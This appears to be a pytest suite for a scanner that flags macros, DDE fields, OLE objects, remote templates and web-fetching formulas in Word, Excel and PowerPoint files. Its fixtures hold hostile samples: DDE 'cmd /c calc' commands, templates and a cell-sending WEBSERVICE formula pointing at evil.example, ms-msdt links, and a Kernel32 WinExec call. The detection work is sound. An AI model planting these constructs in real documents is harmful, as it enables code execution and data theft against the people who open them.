"""What an Office file would do or fetch is found whatever its parts are called; what Office itself writes is no alarm."""

import io
from pathlib import Path

import pytest
from PIL import Image, ImageDraw

from syncd.model.document import FaultKind
from tests.memo.office_files import MAIN, MS, book, faults, override, packed, read, relations, slides, types, word

MACROS, ACTIVE, LINKED = FaultKind.MACROS, FaultKind.ACTIVE, FaultKind.LINKED
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000
RELS = "word/_rels/document.xml.rels"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"


def field(*pieces: str) -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def outside(kind: str, target: str, where: str = RELS) -> bytes:
    return word({where: relations((kind, target, "External"))})


def miniature() -> bytes:
    """A page made as small as Office makes it for the folder's view."""
    made = io.BytesIO()
    with Image.new("RGB", (181, 256), "white") as page:
        ImageDraw.Draw(page).multiline_text((20, 20), "memo\nof the office", fill="black")
        page.save(made, "JPEG")
    return made.getvalue()


def click(action: str) -> str:
    return f'<p:cNvPr id="4" name="ปุ่ม"><a:hlinkClick r:id="rId90" action="{action}"/></p:cNvPr>'


def named(*attributes: str) -> bytes:
    names = "".join(f"<definedName {one}>แผน!$A$1:$B$9</definedName>" for one in attributes)
    return book(more=f"<definedNames>{names}</definedNames>")


def formula(text: str) -> bytes:
    return book(sheet=f'<c r="B1"><f>{text}</f><v>0</v></c>')


WIDE = f'<?xml version="1.0" encoding="UTF-16"?><w:x xmlns:w="w">{field("DDE a")}</w:x>'.encode("utf-16")
LONG = f"<w:x xmlns:w='w'>{'<w:y/>' * 300_000}{field('DDE a b')}</w:x>"
WORD = {
    "macros under their name": (word({"word/vbaProject.bin": OLE}), MACROS),
    "macros under another name": (
        word({RELS: relations((f"{MS}/vbaProject", "theme/theme9.xml")), "word/theme/theme9.xml": OLE}),
        MACROS,
    ),
    "macros by their type only": (
        word(
            {"word/media/image7.png": OLE}, more_types=override("/word/media/image7.png", "application/vnd.ms-office.vbaProject")
        ),
        MACROS,
    ),
    "macros by the type of all .bin": (
        word({"word/a.bin": OLE}, more_types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
        MACROS,
    ),
    "macros in capitals": (word({"word/VBAPROJECT.BIN": OLE}), MACROS),
    "macro data": (word({RELS: relations((f"{MS}/wordVbaData", "extra.xml")), "word/extra.xml": "<a/>"}), MACROS),
    "a main part with macros enabled": (
        packed(
            {
                "[Content_Types].xml": types("/word/document.xml", "x").replace(
                    "application/vnd.openxmlformats-officedocument.x.main+xml",
                    "application/vnd.ms-word.document.macroEnabled.main+xml",
                ),
                "word/document.xml": "<a/>",
            }
        ),
        MACROS,
    ),
    "ribbon that calls macros": (
        word({"customUI/customUI14.xml": '<customUI xmlns="u" onLoad="Go"><ribbon/></customUI>'}),
        MACROS,
    ),
    "ribbon under another name": (
        word({"ui/r.xml": '<x:customUI xmlns:x="u" onLoad="Go"/>'}),
        MACROS,
    ),
    "an OLE object": (
        word({RELS: relations(("oleObject", "embeddings/oleObject1.bin")), "word/embeddings/oleObject1.bin": OLE}),
        ACTIVE,
    ),
    "an OLE object under another name": (word({RELS: relations(("oleObject", "media/a.png")), "word/media/a.png": OLE}), ACTIVE),
    "an OLE file nothing names": (word({"word/media/image3.emf": OLE}), ACTIVE),
    "an object elsewhere": (outside("oleObject", "http://evil.example/x.doc"), ACTIVE),
    "an object elsewhere, strict": (
        outside(f"{STRICT}/oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x"),
        ACTIVE,
    ),
    "a template of the net": (outside("attachedTemplate", "https://evil.example/t.dotm", "word/_rels/settings.xml.rels"), ACTIVE),
    "a template of a share": (outside("attachedTemplate", "\\\\10.0.0.9\\s\\t.dotm", "word/_rels/settings.xml.rels"), ACTIVE),
    "a template of a share by file:": (
        outside("attachedTemplate", "file://10.0.0.9/s/t.dotm", "word/_rels/settings.xml.rels"),
        ACTIVE,
    ),
    "a template of a share by file:////": (
        outside("attachedTemplate", "file:////10.0.0.9/s/t.dotm", "word/_rels/settings.xml.rels"),
        ACTIVE,
    ),
    "a frame": (outside("frame", "http://evil.example/", "word/_rels/webSettings.xml.rels"), ACTIVE),
    "a subdocument": (outside("subDocument", "\\\\evil\\a.docx"), ACTIVE),
    "a page put in": (word({RELS: relations(("aFChunk", "afchunk.htm")), "word/afchunk.htm": "<html>x</html>"}), ACTIVE),
    "a page put in under another name": (
        word({RELS: relations(("aFChunk", "a.dat")), "word/a.dat": b"MIME-Version: 1.0\r\n"}),
        ACTIVE,
    ),
    "a control": (word({"word/activeX/activeX1.xml": "<ocx/>"}), ACTIVE),
    "a control under another name": (word({RELS: relations(("control", "c/c1.xml")), "word/c/c1.xml": "<ocx/>"}), ACTIVE),
    "a control by its type": (
        word({"word/c1.xml": "<o/>"}, more_types=override("/word/c1.xml", "application/vnd.ms-office.activeX+xml")),
        ACTIVE,
    ),
    "DDE": (word(body=field(' DDE "cmd" "/c calc" ')), ACTIVE),
    "DDEAUTO in pieces": (word(body=field(" D", "DEA", 'UTO c:\\\\windows\\\\cmd.exe "/k calc"')), ACTIVE),
    "DDEAUTO in small letters": (word(body=field("ddeauto cmd")), ACTIVE),
    "DDE deleted": (word(body=field("DDEAUTO x").replace("instrText", "delInstrText")), ACTIVE),
    "DDE in a header": (word({"word/header1.xml": f'<w:hdr xmlns:w="w">{field("DDE a b")}</w:hdr>'}), ACTIVE),
    "DDE in a simple field": (word(body='<w:p><w:fldSimple w:instr="DDEAUTO cmd /c"/></w:p>'), ACTIVE),
    "DDE as numbers": (word(body=field(" QUOTE 68 68 69 65 85 84 79 32 99 ")), ACTIVE),
    "text of the net": (word(body=field(' INCLUDETEXT "http://evil.example/a.docx" ')), ACTIVE),
    "text of a share": (word(body=field(' INCLUDETEXT "\\\\\\\\evil\\\\a.docx" ')), ACTIVE),
    "a link to a worksheet": (word(body=field(' LINK Excel.Sheet.12 "C:\\\\งบ.xlsx" "R1C1" ')), LINKED),
    "a picture of the net that is not kept": (word(body=field(' INCLUDEPICTURE "http://a.example/a.png" \\d ')), LINKED),
    "a picture of a share": (word(body=field(' INCLUDEPICTURE "\\\\\\\\evil\\\\a.png" ')), LINKED),
    "a link that is a script": (outside("hyperlink", "javascript:alert(1)"), ACTIVE),
    "a link that is a script, spaced": (outside("hyperlink", "java&#9;script:alert(1)"), ACTIVE),
    "a link to Windows' tools": (outside("hyperlink", "ms-msdt:/id PCWDiagnostic"), ACTIVE),
    "a link to a search": (outside("hyperlink", "search-ms:query=x&amp;crumb=location:\\\\evil"), ACTIVE),
    "a link to a program": (outside("hyperlink", "file:///C:/Windows/System32/calc.exe"), ACTIVE),
    "a link to a program beside it": (outside("hyperlink", "setup.exe"), ACTIVE),
    "a link to a share": (outside("hyperlink", "file://server/แผน.docx"), LINKED),
    "a picture of the net": (outside("image", "https://track.example/p.png?id=1"), LINKED),
    "a picture of the net in a header": (outside("image", "https://track.example/p.png", "word/_rels/header2.xml.rels"), LINKED),
    "a film of the net": (outside("video", "https://video.example/1"), LINKED),
    "a mail merge's source": (outside("mailMergeSource", "file:///C:/รายชื่อ.xlsx", "word/_rels/settings.xml.rels"), LINKED),
    "a web add-in": (
        word({"_rels/x.rels": relations((f"{MS}/webextensiontaskpanes", "/word/w.xml")), "word/w.xml": "<a/>"}),
        LINKED,
    ),
    "a program in a part": (word({"word/media/image1.png": b"MZ\x90" + b"\0" * 99}), ACTIVE),
    "a program named so": (word({"word/setup.exe": b"x"}), ACTIVE),
    "a shortcut in a part": (word({"word/media/image1.png": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 99}), ACTIVE),
    "a script in a part": (word({"word/media/image1.jpeg": b"<?php system('id');"}), ACTIVE),
    "a drawing with a script": (word({"word/media/image1.svg": "<svg><script>alert(1)</script></svg>"}), ACTIVE),
    "a drawing with a page of the web": (
        word({"word/media/image1.svg": '<svg><foreignObject><iframe src="https://t.example"/></foreignObject></svg>'}),
        LINKED,
    ),
    "a drawing whose looks are fetched": (
        word({"word/media/image1.svg": "<svg><style>@import url(https://t.example/a.css);</style></svg>"}),
        LINKED,
    ),
    "a shape that opens a program": (word(body='<w:pict><v:shape xmlns:v="v" href="file://10.0.0.9/a.exe"/></w:pict>'), ACTIVE),
    "a film of the web": (word(body='<w:p><x:webVideoPr xmlns:x="x" embeddedHtml="&lt;iframe&gt;"/></w:p>'), LINKED),
    "a drawing that acts": (word({"word/media/image1.svg": '<svg onload="alert(1)"/>'}), ACTIVE),
    "a drawing that links to a script": (word({"word/media/image1.svg": '<svg><a href="javascript:x"/></svg>'}), ACTIVE),
    "a drawing with a picture of the net": (
        word({"word/media/image1.svg": '<svg><image href="https://t.example/p"/></svg>'}),
        LINKED,
    ),
    "a zip in a part": (word({"word/media/image1.png": packed({"a.txt": "x"})}), ACTIVE),
    "DDE in wide letters": (word({"word/header1.xml": WIDE}), ACTIVE),
    "DDE behind much else": (word({"word/header1.xml": LONG}), ACTIVE),
    "macros in a document in it": (word({"word/embeddings/a.docx": word({"word/vbaProject.bin": OLE})}), MACROS),
    "macros two documents deep": (
        word({"word/embeddings/a.docx": word({"word/embeddings/b.xlsx": book({"xl/vbaProject.bin": OLE})})}),
        MACROS,
    ),
    "a document in it under another name": (word({"word/media/a.png": word({"word/vbaProject.bin": OLE})}), MACROS),
}

BOOK = {
    "a macro sheet": (book({"xl/macrosheets/sheet1.xml": "<xm:macrosheet xmlns:xm='m'/>"}), MACROS),
    "a macro sheet under another name": (
        book({"xl/_rels/workbook.xml.rels": relations((f"{MS}/xlMacrosheet", "worksheets/sheet1.xml"))}),
        MACROS,
    ),
    "a foreign macro sheet": (
        book({"xl/_rels/workbook.xml.rels": relations((f"{MS}/xlIntlMacrosheet", "worksheets/sheet1.xml"))}),
        MACROS,
    ),
    "a macro sheet by its type": (
        book(more_types=override("/xl/worksheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")),
        MACROS,
    ),
    "a name that starts by itself": (named('name="_xlnm.Auto_Open" hidden="1"'), MACROS),
    "a name of a macro": (named('name="a" xlm="1"'), MACROS),
    "macros": (book({"xl/vbaProject.bin": OLE}), MACROS),
    "a shape that runs one": (book({"xl/drawings/drawing1.xml": '<x:sp xmlns:x="x" macro="[0]!Go"/>'}), MACROS),
    "a command in a cell": (formula("cmd|'/C calc'!A0"), ACTIVE),
    "a command in a cell, added up": (formula("1+cmd|' /C notepad'!'A1'"), ACTIVE),
    "another workbook": (
        book(
            {"xl/externalLinks/_rels/externalLink1.xml.rels": relations(("externalLinkPath", "file:///D:/งบ.xlsx", "External"))}
        ),
        LINKED,
    ),
    "another program": (
        book({"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'}),
        ACTIVE,
    ),
    "an OLE link": (
        book({"xl/externalLinks/externalLink1.xml": '<externalLink><oleLink progId="Package"/></externalLink>'}),
        ACTIVE,
    ),
    "connections": (
        book(
            {"xl/_rels/workbook.xml.rels": relations(("connections", "connections.xml")), "xl/connections.xml": "<connections/>"}
        ),
        LINKED,
    ),
    "a connection nothing names": (
        book({"xl/a.xml": '<connections><connection id="1"><webPr url="https://evil.example/"/></connection></connections>'}),
        LINKED,
    ),
    "a button of a form that runs a macro": (
        book({"xl/ctrlProps/a.xml": '<formControlPr objectType="Button" fmlaMacro="Module1.Go"/>'}),
        MACROS,
    ),
    "a box that runs a macro": (
        book({"xl/drawings/vmlDrawing1.vml": "<xml><x:FmlaMacro xmlns:x='x'>[0]!Go</x:FmlaMacro></xml>"}),
        MACROS,
    ),
    "a list to choose from that calls a program": (
        book({"xl/worksheets/sheet1.xml": "<w><dataValidation><formula1>cmd|'/c calc'!A1</formula1></dataValidation></w>"}),
        ACTIVE,
    ),
    "a look that asks for a page": (
        book({"xl/worksheets/sheet1.xml": '<w><cfRule><formula>WEBSERVICE("http://evil.example/")</formula></cfRule></w>'}),
        LINKED,
    ),
    "a query": (book({"xl/worksheets/_rels/sheet1.xml.rels": relations(("queryTable", "../q.xml")), "xl/q.xml": "<q/>"}), LINKED),
    "Power Query": (book({"customXml/item1.xml": "<DataMashup>AAAA</DataMashup>"}), LINKED),
    "publishing to the web": (book({"xl/worksheets/sheet1.xml": "<worksheet><webPublishItem id='1'/></worksheet>"}), LINKED),
    "a page asked for": (formula('WEBSERVICE("http://evil.example/"&amp;A1)'), LINKED),
    "a picture asked for": (formula('_xlfn.IMAGE("https://t.example/p.png")'), LINKED),
    "a library's function": (formula('CALL("Kernel32","WinExec","JCJ","calc",0)'), ACTIVE),
    "a link to a program": (
        book({"xl/worksheets/_rels/sheet1.xml.rels": relations(("hyperlink", "..\\run.bat", "External"))}),
        ACTIVE,
    ),
}

SLIDES = {
    "a button that runs a program": (slides(shape=click("ppaction://program")), ACTIVE),
    "a button that runs a macro": (slides(shape=click("ppaction://macro?name=Go")), MACROS),
    "an object's verb": (slides(shape=click("ppaction://ole?verb=0")), ACTIVE),
    "a mouse over that runs a program": (
        slides(shape=click("ppaction://program").replace("hlinkClick", "hlinkMouseOver")),
        ACTIVE,
    ),
    "an object": (
        slides(
            {"ppt/slides/_rels/slide1.xml.rels": relations(("oleObject", "../embeddings/o.bin")), "ppt/embeddings/o.bin": OLE}
        ),
        ACTIVE,
    ),
    "macros": (slides({"ppt/x.dat": OLE, "ppt/_rels/presentation.xml.rels": relations((f"{MS}/vbaProject", "x.dat"))}), MACROS),
    "a program linked": (
        slides({"ppt/slides/_rels/slide1.xml.rels": relations(("hyperlink", "file:///C:/a.vbs", "External"))}),
        ACTIVE,
    ),
    "a worksheet linked": (
        slides({"ppt/charts/_rels/chart1.xml.rels": relations(("oleObject", "file:///C:/งบ.xlsx", "External"))}),
        ACTIVE,
    ),
    "macros in a chart's workbook": (
        slides({"ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": book({"xl/vbaProject.bin": OLE})}),
        MACROS,
    ),
}

FIELDS = {
    "INCLUDETEXT https://evil.example/a.docx": ACTIVE,
    'RD "https://evil.example/a.docx"': ACTIVE,
}
FORMULAS = {
    "'[https://evil.example/a.xlsx]แผน'!A1": LINKED,
    "'https://evil.example/[a.xlsx]แผน'!A1": LINKED,
    'HYPERLINK("file://10.0.0.9/a.exe","ดู")': ACTIVE,
    'HYPERLINK("\\\\10.0.0.9\\a","ดู")': LINKED,
    'SQL.REQUEST("x")': LINKED,
    "_xlfn._xlws.PY(0,0)": LINKED,
}
WORD |= {code: (word(body=f"<w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p>"), kind) for code, kind in FIELDS.items()}
BOOK |= {code: (book(sheet=f'<c r="B1"><f>{code}</f></c>'), kind) for code, kind in FORMULAS.items()}

HOSTILE = (
    [("a.docx", *one) for one in WORD.items()]
    + [("a.xlsx", *one) for one in BOOK.items()]
    + [("a.pptx", *one) for one in SLIDES.items()]
)


@pytest.mark.parametrize(("name", "what", "made"), HOSTILE, ids=[f"{name}: {what}" for name, what, _ in HOSTILE])
def test_what_acts_or_fetches_is_found(tmp_path: Path, name: str, what: str, made: tuple[bytes, FaultKind]) -> None:
    content, kind = made
    assert kind in faults(read(tmp_path, name, content)), what


DRAWING = (
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    '<svg><a href="https://www.obec.go.th"><path d="M0"/></a><image href="data:image/png;base64,AA"/></svg>'
)
WEB = ("hyperlink", "https://www.chaiyaphum3.go.th/แผน?a=1&amp;b=javascript:", "External")
PLAIN = {
    "links": word(
        {RELS: relations(WEB, ("hyperlink", "mailto:a@example.go.th", "External"), ("hyperlink", "tel:044123456", "External"))}
    ),
    "a link to a file of its own": word(
        {RELS: relations(("hyperlink", "เอกสารแนบ.pdf", "External"), ("hyperlink", "file:///D:/งาน/แผน.docx", "External"))}
    ),
    "a link badly typed": word(
        {RELS: relations(("hyperlink", "Email: a@example.go.th", "External"), ("hyperlink", "www.obec.go.th:8080/a", "External"))}
    ),
    "fields": word(
        body=field(" PAGE ")
        + field(' HYPERLINK "http://dde.example/dde x" ')
        + field(' INCLUDEPICTURE "http://a.example/a.png" \\* MERGEFORMATINET ')
        + field(" MACROBUTTON NoMacro [คลิก]")
        + field(' TOC \\o "1-3" ')
        + field(" DATE \\@ &quot;d MMMM bbbb&quot; ")
    ),
    "the office's template": word(
        {
            "word/_rels/settings.xml.rels": relations(
                ("attachedTemplate", "file:///C:\\Users\\a\\Templates\\บันทึกข้อความ.dotx", "External")
            )
        }
    ),
    "a chart": word(
        {
            "word/charts/chart1.xml": "<c:chart xmlns:c='c'><c:f>Sheet1!$A$1</c:f></c:chart>",
            "word/charts/_rels/chart1.xml.rels": relations(("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx")),
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": book(),
        }
    ),
    "fonts and a thumbnail": word({"word/fonts/font1.odttf": b"\x12MZ\0" * 50, "docProps/thumbnail.jpeg": miniature()}),
    "a drawing of Illustrator's": word({"word/media/image1.svg": DRAWING}),
    "office's own data": word(
        {
            "customXml/item1.xml": "<b:Sources xmlns:b='b'/>",
            "customXml/_rels/item1.xml.rels": relations(("customXmlProps", "itemProps1.xml")),
            "customXml/itemProps1.xml": "<a/>",
        }
    ),
}
PLAIN_BOOK = {
    "printer settings": book(
        {"xl/printerSettings/printerSettings1.bin": b"H\0P\0" * 99},
        more_types=f'<Default Extension="bin" ContentType="{MAIN}.spreadsheetml.printerSettings"/>',
    ),
    "formulas": formula('IF(A1&gt;0,"ก|ข!","อื่น")&amp;SUM(แผน!A1:A9)&amp;HYPERLINK("https://www.obec.go.th","ดู")'),
    "old drawings that are no XML": book(
        {"xl/drawings/vmlDrawing1.vml": '<xml xmlns:v="urn:v"><v:textbox><font>ก<br></font></v:textbox></xml>'}
    ),
    "a shape without a macro": book({"xl/drawings/drawing1.xml": '<x:sp xmlns:x="x" macro="" textlink=""/>'}),
    "names": named('name="_xlnm.Print_Area" localSheetId="0"', 'name="_xlfn.IFERROR" hidden="1"'),
}
PLAIN_SLIDES = {
    "turning pages": slides(shape=click("ppaction://hlinkshowjump?jump=nextslide")),
    "links": slides({"ppt/slides/_rels/slide1.xml.rels": relations(WEB)}, shape=click("ppaction://hlinksldjump")),
    "a chart's workbook": slides({"ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": book()}),
}
HARMLESS = (
    [("a.docx", *one) for one in PLAIN.items()]
    + [("a.xlsx", *one) for one in PLAIN_BOOK.items()]
    + [("a.pptx", *one) for one in PLAIN_SLIDES.items()]
)


@pytest.mark.parametrize(("name", "what", "content"), HARMLESS, ids=[f"{name}: {what}" for name, what, _ in HARMLESS])
def test_what_office_itself_writes_is_no_alarm(tmp_path: Path, name: str, what: str, content: bytes) -> None:
    document = read(tmp_path, name, content)
    assert (document.faults, document.unread) == ((), None), what


def test_a_part_with_a_document_type_of_its_own_is_damage(tmp_path: Path) -> None:
    lol = '<!DOCTYPE a [<!ENTITY a "ก"><!ENTITY b "&a;&a;">]><a>&b;</a>'
    assert faults(read(tmp_path, "a.docx", word({"word/header1.xml": lol}))) == {FaultKind.DAMAGED}


def test_documents_within_documents_without_end_are_a_bomb(tmp_path: Path) -> None:
    content = word()
    for _ in range(6):
        content = word({"word/embeddings/a.docx": content})
    assert FaultKind.BOMB in faults(read(tmp_path, "a.docx", content))


def test_a_document_in_a_document_that_is_encrypted_is_said(tmp_path: Path) -> None:
    inner = bytearray(word())
    for at in range(len(inner)):
        if inner[at : at + 4] == b"PK\x01\x02":
            inner[at + 8] |= 1
    assert FaultKind.ENCRYPTED in faults(read(tmp_path, "a.docx", word({"word/embeddings/a.docx": bytes(inner)})))
